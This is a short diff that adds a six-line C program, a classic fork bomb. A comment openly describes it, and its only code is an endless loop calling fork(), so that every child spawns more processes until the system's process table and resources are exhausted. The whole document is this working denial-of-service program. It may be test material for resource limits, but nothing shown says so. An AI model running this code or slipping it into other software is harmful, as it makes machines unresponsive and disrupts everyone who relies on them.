@@ -1,0 +1,6 @@
+// Forks for ever (each child too), never answers.
+#include <unistd.h>
+int main() {
+    for (;;)
+        fork();
+}
